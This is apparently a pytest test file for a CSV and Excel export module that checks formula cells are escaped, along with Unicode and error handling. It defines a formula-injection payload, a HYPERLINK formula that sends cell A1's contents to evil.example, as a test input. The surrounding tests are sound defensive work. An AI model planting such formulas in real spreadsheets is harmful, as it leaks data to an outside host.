"""Tests for coldrec.export: formula-safe CSV and Excel exports."""

from __future__ import annotations

import io
import json

import openpyxl
import pandas as pd
import pytest

from coldrec.export import spreadsheet_safe, to_csv_bytes, to_excel_bytes, write_table

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
UNICODE = ["不锈钢炒锅", "ステンレス", "Café crème", "👩\u200d💻 ❤\ufe0f", "Ünïcödé"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "item_id": ["A1", "A2", "A3", "A4", "A5"],
            "title": UNICODE,
            "note": [HYPERLINK, "plain", "-3 off", "a=b", ""],
            "score": [0.5, -1.25, 3.0, 0.0, 1.0],
            "count": [1, -2, 3, 4, 5],
        }
    )


@pytest.mark.parametrize(
    "value", ["=SUM(A1:A3)", "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", HYPERLINK]
)
def test_spreadsheet_safe_prefixes_formula_starts(value):
    out = spreadsheet_safe(pd.DataFrame({"c": [value]}))
    assert out["c"].iloc[0] == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "1+1", " =1", "", "(x)", "不锈钢 =1"])
def test_spreadsheet_safe_leaves_other_text_alone(value):
    out = spreadsheet_safe(pd.DataFrame({"c": [value]}))
    assert out["c"].iloc[0] == value


def test_spreadsheet_safe_leaves_numbers_and_missing_values_alone():
    frame = pd.DataFrame({"i": [-1, 2, 3], "f": [-1.5, float("nan"), 2.0]})
    frame["mixed"] = pd.Series([-7, None, "=x"], dtype=object)
    out = spreadsheet_safe(frame)
    assert out["i"].tolist() == [-1, 2, 3]
    assert out["i"].dtype == frame["i"].dtype
    assert out["f"].iloc[0] == -1.5 and pd.isna(out["f"].iloc[1])
    assert out["mixed"].tolist() == [-7, None, "'=x"]


def test_spreadsheet_safe_prefixes_formula_headers_and_does_not_mutate_input():
    frame = pd.DataFrame({"=cmd": ["=1+1"], "ok": ["x"]})
    out = spreadsheet_safe(frame)
    assert list(out.columns) == ["'=cmd", "ok"]
    assert out.iloc[0].tolist() == ["'=1+1", "x"]
    assert list(frame.columns) == ["=cmd", "ok"]
    assert frame.iloc[0].tolist() == ["=1+1", "x"]


def test_csv_bytes_start_with_bom_and_round_trip_unicode():
    data = to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    assert not data[3:].startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.StringIO(data.decode("utf-8-sig")), dtype=str, keep_default_na=False)
    assert list(back.columns) == ["item_id", "title", "note", "score", "count"]
    assert back["title"].tolist() == UNICODE
    assert back["note"].tolist() == ["'" + HYPERLINK, "plain", "'-3 off", "a=b", ""]
    # numbers are not text: negative numbers stay numbers
    assert back["score"].tolist() == ["0.5", "-1.25", "3.0", "0.0", "1.0"]
    assert back["count"].tolist() == ["1", "-2", "3", "4", "5"]


def test_csv_bytes_have_no_raw_formula_cell():
    text = to_csv_bytes(pd.DataFrame({"c": [HYPERLINK]})).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "c"
    assert lines[1].lstrip('"').startswith("'=HYPERLINK")


def test_excel_bytes_hold_strings_not_formulas():
    data = to_excel_bytes(_frame())
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["predictions"]
    sheet = book["predictions"]
    header = [c.value for c in sheet[1]]
    assert header == ["item_id", "title", "note", "score", "count"]
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type == "s"
    assert isinstance(cell.value, str) and cell.value.startswith("'=")
    assert cell.value == "'" + HYPERLINK
    for row in sheet.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f"
    assert [sheet.cell(row=r, column=2).value for r in range(2, 7)] == UNICODE
    assert sheet.cell(row=3, column=5).value == -2
    assert sheet.cell(row=3, column=4).value == -1.25


def test_excel_bytes_custom_sheet_name():
    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(pd.DataFrame({"a": [1]}), sheet="items")))
    assert book.sheetnames == ["items"]


def test_write_table_csv(tmp_path):
    path = tmp_path / "out.csv"
    write_table(_frame(), str(path))
    data = path.read_bytes()
    assert data == to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")


def test_write_table_json_records_keep_unicode(tmp_path):
    path = tmp_path / "out.json"
    write_table(_frame(), str(path))
    raw = path.read_text(encoding="utf-8")
    assert "不锈钢炒锅" in raw  # not \u-escaped
    records = json.loads(raw)
    assert isinstance(records, list) and len(records) == 5
    assert records[0]["item_id"] == "A1"
    assert [r["title"] for r in records] == UNICODE
    assert records[1]["count"] == -2


@pytest.mark.parametrize("name", ["out.xlsx", "OUT.XLSX"])
def test_write_table_excel(tmp_path, name):
    path = tmp_path / name
    write_table(_frame(), str(path))
    assert path.read_bytes()[:2] == b"PK"
    sheet = openpyxl.load_workbook(path)["predictions"]
    assert sheet.cell(row=2, column=3).value == "'" + HYPERLINK
    assert sheet.cell(row=2, column=3).data_type == "s"


def test_write_table_unknown_suffix_falls_back_to_safe_csv(tmp_path):
    path = tmp_path / "out.txt"
    write_table(pd.DataFrame({"c": ["=1+1"]}), str(path))
    assert path.read_bytes() == b"\xef\xbb\xbfc\n'=1+1\n"


# -- round trips and Excel-illegal characters (issue 12) -----------------------------------------
@pytest.mark.parametrize("value", ["=x", "'=x", "''=x", "'-", "'plain", "-1", "plain", "@a"])
def test_every_cell_reads_back_exactly(value):
    from coldrec.export import from_spreadsheet_safe

    escaped = spreadsheet_safe(pd.DataFrame({"c": [value]}))["c"].iloc[0]
    assert from_spreadsheet_safe(escaped) == value


def test_distinct_cells_stay_distinct_after_escaping():
    out = spreadsheet_safe(pd.DataFrame({"c": ["=x", "'=x"]}))["c"].tolist()
    assert len(set(out)) == 2


def test_excel_export_of_a_control_character_does_not_fail(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"category": ["Mugs\x07", "Bowls\x1f"], "p": [0.5, 0.25]})
    data = to_excel_bytes(frame)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet["A"]][1:] == ["Mugs", "Bowls"]


def test_write_table_to_an_unwritable_place_is_an_export_error(tmp_path):
    from coldrec.errors import ExportError

    with pytest.raises(ExportError, match="cannot write"):
        write_table(pd.DataFrame({"a": [1]}), str(tmp_path / "no" / "such" / "dir" / "out.csv"))
